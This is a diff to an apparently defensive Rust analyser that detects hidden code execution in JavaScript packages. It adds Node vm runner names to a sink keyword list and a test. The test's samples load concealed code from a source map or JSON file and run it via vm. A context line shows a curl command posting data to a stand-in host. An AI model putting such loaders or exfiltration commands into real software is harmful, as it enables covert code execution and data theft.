@@ -120,6 +120,11 @@ pub fn worth_tracking(src: &str) -> bool {
         "eval",
         "Function",
         "vm.",
+        // vm's runners by name: the module may be an inline `require("vm")`, not `vm.`.
+        "runInThisContext",
+        "runInNewContext",
+        "runInContext",
+        "compileFunction",
         "_compile",
         "Runtime.evaluate",
         "import(",
@@ -1949,6 +1954,25 @@ exec(`curl -s -d ${d} https://c.example/e`);"#;
             .into_iter()
             .map(|f| (f.source, f.sink))
             .collect()
+    }
+
+    #[test]
+    fn a_runner_on_an_inline_require_runs_package_data() {
+        // `require("vm").runInThisContext(x)`: the runner's object is the require call itself.
+        let src = r#"if (typeof window === "undefined") {
+  const m = JSON.parse(require("fs").readFileSync(__filename + ".map", "utf8"));
+  const src = m.sourcesContent.find((s) => s.startsWith("/*c*/"));
+  if (src) require("vm").runInThisContext(src, { filename: "x.js" })(require);
+}"#;
+        let r = runs(src);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
+        let other = r#"const m = JSON.parse(require("node:fs").readFileSync(__dirname + "/stage.json", "utf8"));
+require("node:vm").runInNewContext(m.code, { require });"#;
+        let r = runs(other);
+        assert_eq!(r.first().map(|r| r.0), Some(Source::PackageData), "{r:?}");
+        // Code the caller hands in is not hidden data.
+        let caller = r#"module.exports = (code) => require("vm").runInThisContext(code);"#;
+        assert!(runs(caller).is_empty(), "{:?}", runs(caller));
     }
 
     #[test]
